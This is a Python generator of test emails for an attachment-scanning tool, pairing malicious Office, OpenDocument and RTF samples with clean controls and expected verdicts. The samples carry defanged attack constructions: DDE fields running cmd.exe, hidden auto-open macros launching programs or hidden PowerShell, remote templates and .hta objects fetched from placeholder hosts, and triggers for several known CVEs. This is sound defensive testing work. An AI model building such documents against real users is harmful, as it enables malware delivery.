#!/usr/bin/python3
"""Write the cases with documents that are zip packages or RTF, made by
document_files.py.

All of them are made up; no command or address in them leads anywhere. The
results are checked in. Usage: tests/cases/make_document.py [NAME…]
"""

import base64
import json
import pathlib
import sys

import document_files as document
import office_files as office

HERE = pathlib.Path(__file__).resolve().parent
CASES = {}
OPENXML = "application/vnd.openxmlformats-officedocument."
TYPES = {"docx": OPENXML + "wordprocessingml.document",
         "xlsx": OPENXML + "spreadsheetml.sheet",
         "pptx": OPENXML + "presentationml.presentation",
         "odt": "application/vnd.oasis.opendocument.text",
         "xlsb": "application/vnd.ms-excel.sheet.binary.macroEnabled.12",
         "xml": "text/xml", "rtf": "application/rtf", "doc": "application/msword"}
# {0002CE02-0000-0000-C000-000000000046}
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")


def case(function):
    CASES[function.__name__.replace("_", "-")] = function
    return function


def with_file(name, data, sender="anna@example.org"):
    encoded = base64.encodebytes(data).decode().replace("\n", "\r\n")
    kind = TYPES[name.rsplit(".", 1)[-1]]
    return (
        "From: Anna Weber <%s>\r\n"
        "To: Ben Roth <ben@example.org>\r\n"
        "Subject: Papers\r\nDate: Mon, 08 Jan 2024 10:20:30 +0100\r\n"
        "Message-ID: <20240108102030.1@example.org>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"=_sep\"\r\n\r\n"
        "--=_sep\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "Please find it attached.\r\n"
        "--=_sep\r\nContent-Type: %s; name=\"%s\"\r\n"
        "Content-Disposition: attachment; filename=\"%s\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n%s--=_sep--\r\n"
        % (sender, kind, name, name, encoded)).encode()


def bad(*symbols, verdict="malware", action="quarantine", **more):
    return dict(verdict=verdict, action=action, symbols=list(symbols), **more)


def good(*symbols):
    return dict(verdict="clean", action="allow", only=list(symbols),
                symbols=list(symbols))


def program():
    pe = bytearray(512)
    pe[0:2] = b"MZ"
    pe[0x3c] = 0x80
    pe[0x80:0x84] = b"PE\0\0"
    return bytes(pe)


# --- templates ---------------------------------------------------------------

@case
def office_template_remote():
    """The template, which may have macros, comes from a web server."""
    return with_file("letter.docx", document.word(settings=[
        ("rId1", "attachedTemplate", "http://files.example/x/t.dotm", True)])), \
        bad("OFFICE_REMOTE_TEMPLATE")


@case
def office_template_remote_renamed():
    """The same with members of other names, the scheme as a reference, and
    the relations in UTF-16."""
    data = document.word(folder="any", members=[
        ("any/_rels/other.xml.rels", document.relations(
            ("a", "attachedTemplate", "&#x68;ttp://files.example/t.dotm",
             True)).replace('encoding="UTF-8"', 'encoding="UTF-16"')
         .encode("utf-16"))])
    return with_file("letter.docx", data), bad("OFFICE_REMOTE_TEMPLATE")


@case
def office_template_remote_share():
    """A file share on the Internet, by WebDAV."""
    return with_file("letter.docx", document.word(settings=[
        ("rId1", "attachedTemplate",
         "\\\\files.example@SSL\\DavWWWRoot\\t.dotm", True)])), \
        bad("OFFICE_REMOTE_TEMPLATE")


@case
def office_template_control():
    """Templates as offices have them: on the disk, on a file server of one
    word, with a private address."""
    return with_file("letter.docx", document.word(settings=[
        ("rId1", "attachedTemplate",
         "file:///C:\\Program%20Files\\Templates\\letter.dotx", True),
        ("rId2", "attachedTemplate", "file:///\\\\fs1\\office\\letter.dotx",
         True),
        ("rId3", "attachedTemplate", "\\\\10.1.2.3\\office\\letter.dotx",
         True)])), good()


@case
def office_template_own():
    """A template on the sender's own server: a remark."""
    return with_file("letter.docx", document.word(settings=[
        ("rId1", "attachedTemplate", "https://intra.example.org/t/letter.dotx",
         True)])), good("OFFICE_OWN_TEMPLATE")


# --- objects from elsewhere --------------------------------------------------

@case
def office_remote_object():
    """A linked object on somebody's web server."""
    return with_file("report.docx", document.word(links=[
        ("rId5", "oleObject", "https://data.example/report.xlsx", True)])), \
        bad("OFFICE_REMOTE_OBJECT", verdict="suspicious", action="flag")


@case
def office_remote_object_own():
    """The same where offices keep their files, and on the sender's server."""
    return with_file("report.docx", document.word(links=[
        ("rId5", "oleObject", "https://acme.sharepoint.com/r.xlsx", True),
        ("rId6", "image", "file://files.example.org/logo.png", True)])), \
        good()


@case
def office_remote_object_control():
    """Pictures from the web, links, an object on the same disk."""
    return with_file("report.docx", document.word(
        body='<w:p><w:hyperlink r:id="rId6"><w:r><w:t>our site</w:t></w:r>'
             '</w:hyperlink></w:p>', links=[
            ("rId4", "image", "https://www.example.org/logo.png", True),
            ("rId5", "oleObject", "file:///D:\\data\\report.xlsx", True),
            ("rId6", "hyperlink", "https://www.example.org/", True)])), good()


@case
def office_remote_share():
    """A picture on a file share of the Internet: the computer logs in there."""
    return with_file("report.docx", document.word(links=[
        ("rId4", "image", "file://files.example/img/logo.png", True)])), \
        bad("OFFICE_REMOTE_SHARE", verdict="suspicious", action="flag")


@case
def office_handler_target():
    """An object that is a page for an old script engine (CVE-2021-40444)."""
    return with_file("report.docx", document.word(links=[
        ("rId5", "oleObject", "mhtml:http://files.example/a.html!x-usc:"
         "http://files.example/a.html", True)])), bad("OFFICE_HANDLER_TARGET")


@case
def office_handler_target_page():
    """A page taken as an object (CVE-2022-30190)."""
    return with_file("report.docx", document.word(links=[
        ("rId5", "oleObject", "https://files.example/a.html!", True)])), \
        bad("OFFICE_HANDLER_TARGET")


@case
def office_handler_target_control():
    """A link with an exclamation mark, one into a help file, one to a script
    that Word does not run."""
    return with_file("report.docx", document.word(links=[
        ("rId4", "hyperlink", "https://www.example.org/hurray!", True),
        ("rId5", "hyperlink", "mk:@MSITStore:C:\\help\\a.chm::/a.htm", True),
        ("rId6", "hyperlink", "javascript:void(0)", True)])), dict(
            verdict="clean", action="allow",
            absent=["OFFICE_REMOTE_OBJECT"])


# --- DDE ---------------------------------------------------------------------

@case
def office_dde_field():
    """A field that runs a command, its word in two pieces."""
    return with_file("report.docx", document.word(
        "<w:p>" + document.field(
            "DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ",
            "&quot;/k exit&quot;") + "</w:p>")), bad("OFFICE_DDE_COMMAND")


@case
def office_dde_hidden():
    """The same, put together with SET, REF and QUOTE."""
    return with_file("report.docx", document.word(
        "<w:p>" + document.field("SET c ", document.field(
            "QUOTE 112 111 119 101 114 115 104 101 108 108"))
        + document.field("DDEAUTO ", document.field("REF c"),
                         " &quot;-c exit&quot;") + "</w:p>")), \
        bad("OFFICE_DDE_COMMAND")


@case
def office_dde_sheet():
    """A workbook that asks the command line for a value."""
    return with_file("table.xlsx", document.excel(members=[
        ("xl/externalLinks/externalLink1.xml",
         '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" '
         'ddeTopic="/c exit"/></externalLink>')])), bad("OFFICE_DDE_COMMAND")


@case
def office_dde_formula():
    """The same in a formula."""
    return with_file("table.xlsx", document.excel(
        "<c><f>MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c exit'!A0</f>"
        "</c>")), bad("OFFICE_DDE_COMMAND")


@case
def office_dde_control():
    """Prices from a trading program, and a field that shows part of a table."""
    return with_file("report.docx", document.word(
        "<w:p>" + document.field("DDEAUTO Excel.Sheet.8 &quot;C:\\\\data\\\\"
                                 "prices.xls&quot; &quot;Sheet1!R1C1&quot;")
        + document.field("PAGE") + "</w:p>")), good("OFFICE_DDE")


# --- macro sheets ------------------------------------------------------------

@case
def openxml_xlm_dropper():
    """A very hidden sheet of Excel 4 macros that runs and starts a program."""
    return with_file("table.xlsx", document.excel(
        names='<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1'
              '</definedName>', state="veryHidden",
        macros=["EXEC(&quot;calc&quot;)", "HALT()"])), \
        bad("OFFICE_XLM_MACRO", "OFFICE_XLM_HIDDEN", "OFFICE_XLM_DROPPER")


@case
def openxml_xlm_control():
    """An old sheet of macros that calculates."""
    return with_file("table.xlsx", document.excel(
        macros=["ARGUMENT(&quot;x&quot;)", "RETURN(x*1.19)"])), \
        good("OFFICE_XLM_MACRO")


@case
def openxml_xlm_binary():
    """The same in a binary workbook."""
    return with_file("table.xlsb", document.binary_excel(
        2, [document.call(110, "calc")], "_xlnm.Auto_Open")), \
        bad("OFFICE_XLM_MACRO", "OFFICE_XLM_HIDDEN", "OFFICE_XLM_DROPPER")


@case
def openxml_xlm_binary_control():
    """A binary workbook whose macros calculate."""
    return with_file("table.xlsb", document.binary_excel(
        0, [document.call(4)], "Sums")), good("OFFICE_XLM_MACRO")


# --- embedded ----------------------------------------------------------------

@case
def openxml_embedded_program():
    """A program in a package in a document."""
    native = document.packager(b"setup.exe", program())
    inner = office.compound({
        "\1Ole10Native": len(native).to_bytes(4, "little") + native})
    return with_file("report.docx", document.word(members=[
        ("word/embeddings/oleObject1.bin", inner)])), dict(
            symbols=["OFFICE_EMBEDDED_PROGRAM"],
            parts=[dict(name="setup.exe")])


@case
def openxml_embedded_program_control():
    """A workbook and a picture in a document."""
    return with_file("report.docx", document.word(members=[
        ("word/embeddings/Microsoft_Excel_Sheet.xlsx", document.excel()),
        ("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(60))])), dict(
            verdict="clean", action="allow", only=[],
            parts=[dict(path="2/word/embeddings/Microsoft_Excel_Sheet.xlsx"),
                   dict(path="2/word/media/image1.png",
                        detected_type="image/png")])


@case
def office_activex():
    """A form with a box to tick: remarked."""
    return with_file("form.docx", document.word(members=[
        ("word/activeX/activeX1.xml",
         '<ax:ocx xmlns:ax="urn:a" '
         'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>')])), \
        good("OFFICE_ACTIVEX")


@case
def office_runs_program():
    """A move of the mouse runs a command."""
    return with_file("slides.pptx", document.powerpoint(
        '<a:r><a:rPr><a:hlinkMouseOver r:id="rId2" '
        'action="ppaction://program"/></a:rPr><a:t>Loading</a:t></a:r>', [
            ("rId2", "hyperlink", "powershell%20-NoP%20-c%20exit", True)])), \
        bad("OFFICE_RUNS_PROGRAM", "OFFICE_HANDLER_TARGET")


@case
def office_runs_program_control():
    """A presentation with links between slides and to a site."""
    return with_file("slides.pptx", document.powerpoint(
        '<a:r><a:rPr><a:hlinkClick r:id="rId2"/></a:rPr><a:t>Site</a:t></a:r>'
        '<a:r><a:rPr><a:hlinkClick r:id="rId3" action="ppaction://hlinksldjump"'
        '/></a:rPr><a:t>Next</a:t></a:r>', [
            ("rId2", "hyperlink", "https://www.example.org/", True),
            ("rId3", "slide", "slide2.xml", False)])), good()


@case
def office_xml_entities():
    """Entities that would expand to much, and are not."""
    return with_file("letter.docx", document.word(members=[
        ("word/styles.xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
         + "x" * 1000 + '"><!ENTITY b "' + "&a;" * 1000 + '"><!ENTITY c "'
         + "&b;" * 1000 + '">]><x>&c;</x>')])), \
        bad("OFFICE_XML_ENTITIES", verdict="suspicious", action="flag")


# --- OpenDocument ------------------------------------------------------------

LISTENER = ('<office:event-listeners><script:event-listener script:event-name='
            '"%s" xlink:href="%s"/></office:event-listeners>')
BASIC = ("vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;"
         "location=document")


@case
def odf_macro_autorun():
    """A document that runs a macro when it is opened: remarked."""
    return with_file("letter.odt", document.odt(
        "<text:p>Hello</text:p>", LISTENER % ("dom:load", BASIC))), \
        good("ODF_MACRO_AUTORUN")


@case
def odf_macro_autorun_control():
    """A button that runs one, and a link."""
    return with_file("letter.odt", document.odt(
        '<text:p><text:a xlink:href="https://www.example.org/">x</text:a>'
        '</text:p>', LISTENER % ("dom:click", BASIC))), good()


@case
def odf_script_outside():
    """Code of the program itself, called with other arguments
    (CVE-2018-16858)."""
    return with_file("letter.odt", document.odt(
        "<text:p>Hello</text:p>", LISTENER % (
            "dom:mouseover", "vnd.sun.star.script:../../../program/python-core"
            "/lib/pydoc.py$tempfilepager?language=Python&amp;location=share"))
    ), bad("OFFICE_HANDLER_TARGET")


@case
def odf_encrypted():
    """Encrypted, as its manifest says."""
    return with_file("letter.odt", document.opendocument(
        bytes(range(64)), manifest='<manifest:encryption-data '
        'manifest:checksum-type="SHA1/1K"/>')), dict(
            verdict="unscannable", action="flag",
            symbols=["ENCRYPTED_CONTENT"], unscanned=["encrypted"])


@case
def odf_macro_dropper():
    """A macro that runs when the document is opened and runs a command."""
    return with_file("letter.odt", document.opendocument(
        '<office:document-content xmlns:office="urn:o" xmlns:script="urn:s" '
        'xmlns:xlink="urn:l"><office:scripts>' + LISTENER % ("dom:load", BASIC)
        + '</office:scripts></office:document-content>', members=[
            ("Basic/Standard/Module1.xml",
             '<script:module xmlns:script="urn:s" script:name="Module1" '
             'script:language="StarBasic">Sub Main\n\tShell("powershell -w hidden -c exit",'
             ' 0)\nEnd Sub</script:module>')])), bad(
                 "OFFICE_MACRO_DROPPER", "ODF_MACRO_AUTORUN")


@case
def odf_macro_dropper_control():
    """A macro that counts words when a button is clicked."""
    return with_file("letter.odt", document.opendocument(
        '<office:document-content xmlns:office="urn:o"/>', members=[
            ("Basic/Standard/Module1.xml",
             '<script:module xmlns:script="urn:s" script:name="Module1" '
             'script:language="StarBasic">Sub Main\n\tMsgBox "Words: " &amp; '
             'ThisComponent.WordCount\nEnd Sub</script:module>')])), \
        good("OFFICE_MACRO")


# --- one file of XML ---------------------------------------------------------

@case
def office_flat_package():
    """A package as XML, with a template from a web server and a program."""
    return with_file("letter.xml", (
        '<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n'
        '<pkg:package xmlns:pkg="urn:p"><pkg:part pkg:name="/word/_rels/'
        'settings.xml.rels"><pkg:xmlData>' + document.relations(
            ("rId1", "attachedTemplate", "http://files.example/t.dotm", True))
        .split("?>\n")[1] + '</pkg:xmlData></pkg:part><pkg:part pkg:name="/word'
        '/embeddings/setup.exe"><pkg:binaryData>'
        + base64.b64encode(program()).decode() + '</pkg:binaryData></pkg:part>'
        '</pkg:package>').encode()), bad(
            "OFFICE_REMOTE_TEMPLATE", "OFFICE_EMBEDDED_PROGRAM",
            parts=[dict(path="2/word/embeddings/setup.exe", size=512)])


@case
def office_flat_control():
    """A letter of Word 2003 with a link, and a template on the disk."""
    return with_file("letter.xml", (
        '<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n'
        '<w:wordDocument xmlns:w="urn:w"><w:docPr><w:attachedTemplate w:val='
        '"C:\\Templates\\letter.dot"/></w:docPr><w:body><w:hlink w:dest='
        '"https://www.example.org/"><w:r><w:t>our site</w:t></w:r></w:hlink>'
        '</w:body></w:wordDocument>').encode()), good()


# --- RTF ---------------------------------------------------------------------

@case
def rtf_obfuscated_object():
    """A program, its digits broken by groups, escapes and binary pieces."""
    digits = document.ole1(b"Package", document.packager(
        b"setup.exe", program())).hex()
    digits = (digits[:31] + "{\\*\\xyz 99}" + digits[31:61] + "\\'aa"
              + digits[60:80] + "\\bin2 " + bytes.fromhex(digits[80:84])
              .decode("latin-1") + "{\\foo " + digits[84:100] + "}\n \t"
              + digits[100:])
    return with_file("letter.doc", ("{\\rt{" + document.rtf_object(
        b"", digits=digits)[1:]).encode("latin-1")), bad(
            "RTF_OBFUSCATED_OBJECT", "OFFICE_EMBEDDED_PROGRAM",
            parts=[dict(path="2/setup.exe", size=512)])


@case
def rtf_object_control():
    """A workbook in a text, written as Word does."""
    data = document.ole1(b"Excel.Sheet.12", document.excel())
    lines = data.hex()
    lines = "\n".join(lines[i:i + 128] for i in range(0, len(lines), 128))
    return with_file("letter.rtf", document.rtf(document.rtf_object(
        data, class_name="Excel.Sheet.12", digits="\n" + lines + "\n"))), \
        good()


@case
def rtf_fetched_object():
    """A link that is loaded when the text is opened (CVE-2017-0199)."""
    data = document.ole1(b"OLE2Link", office.compound({
        "\1Ole": bytes(20) + document.url_moniker(
            "http://files.example/x.hta")}))
    return with_file("letter.doc", document.rtf(document.rtf_object(
        data, words="\\objautlink\\objupdate"))), bad(
            "OFFICE_FETCHED_OBJECT", "OFFICE_RISKY_OBJECT",
            "OFFICE_RISKY_OBJECT_LOADED", "OFFICE_REMOTE_OBJECT")


@case
def rtf_links_control():
    """Links, a picture, a page number."""
    return with_file("letter.rtf", document.rtf(
        "{\\field{\\*\\fldinst HYPERLINK \"https://www.example.org/\"}"
        "{\\fldrslt our site}}{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}"
        "{\\pict\\pngblip 89504e470d0a1a0a" + "00" * 60 + "}")), good()


# --- formulas ----------------------------------------------------------------

def equation(mtef, native=False):
    stream = ({"\1Ole10Native": len(mtef).to_bytes(4, "little") + mtef}
              if native else
              {"Equation Native": document.native_formula(mtef)})
    return office.compound(stream, clsid=EQUATION)


@case
def office_equation_exploit():
    """A font's name that is longer than the editor's buffer
    (CVE-2017-11882)."""
    return with_file("exam.docx", document.word(members=[
        ("word/embeddings/oleObject1.bin",
         equation(document.formula(b"A" * 44)))])), \
        bad("OFFICE_EQUATION", "OFFICE_EQUATION_EXPLOIT")


@case
def office_equation_exploit_native():
    """The same in the stream of an OLE 1.0 object, in a workbook."""
    return with_file("table.xlsx", document.excel(members=[
        ("xl/embeddings/any.bin",
         equation(document.formula(b"A" * 44), native=True))])), \
        bad("OFFICE_EQUATION_EXPLOIT")


@case
def rtf_equation_loaded():
    """A formula that is loaded when the text is opened."""
    return with_file("exam.doc", document.rtf(document.rtf_object(
        document.ole1(b"Equation.3", equation(document.formula())),
        words="\\objemb\\objupdate"))), bad("OFFICE_EQUATION_EXPLOIT")


@case
def office_equation_control():
    """Formulas in an old exam."""
    return with_file("exam.docx", document.word(members=[
        ("word/embeddings/oleObject1.bin", equation(document.formula()))])), \
        good("OFFICE_EQUATION")


def main(names):
    for name, function in CASES.items():
        if names and name not in names:
            continue
        message, expect = function()
        folder = HERE / name
        folder.mkdir(exist_ok=True)
        (folder / "message.eml").write_bytes(message)
        expect = {"why": " ".join(function.__doc__.split()), **expect}
        (folder / "expect.json").write_text(
            json.dumps(expect, indent="\t", ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main(sys.argv[1:])
